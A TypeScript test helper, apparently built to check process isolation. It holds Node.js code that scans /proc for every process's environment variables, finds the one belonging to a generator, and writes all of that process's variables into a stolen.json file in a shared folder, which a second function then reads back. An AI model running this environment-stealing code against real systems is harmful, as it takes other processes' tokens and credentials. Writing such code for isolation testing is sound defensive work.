import { readFileSync } from 'node:fs'
import { join } from 'node:path'

/** The file with the variables of a generator, in the folder of the provider's cloud. */
const stolenFile = 'stolen.json'

/**
 * Code of a program. It reads the variables of the generator from its process, and writes them into
 * the folder of the provider's cloud. A program is a process of the same user, so it can do this.
 */
export const stealEnvironmentCode = `
const fs = require('node:fs')
for (const pid of fs.readdirSync('/proc').filter(name => /^\\d+$/.test(name))) {
  let text = ''
  try { text = fs.readFileSync('/proc/' + pid + '/environ', 'utf8') } catch { continue }
  const variables = Object.fromEntries(
    text.split('\\0').filter(line => line.includes('=')).map(line => {
      const index = line.indexOf('=')
      return [line.slice(0, index), line.slice(index + 1)]
    }),
  )
  if (variables.ANTICHAIN_CATALOG_TABLE === undefined) continue
  fs.writeFileSync(variables.GOLD_CLOUD + '/${stolenFile}', JSON.stringify(variables))
  break
}
`

/** Returns the variables that the program found. */
export function readStolenEnvironment(cloudFolder: string): Readonly<Record<string, string>> {
  return JSON.parse(readFileSync(join(cloudFolder, stolenFile), 'utf8')) as Record<string, string>
}
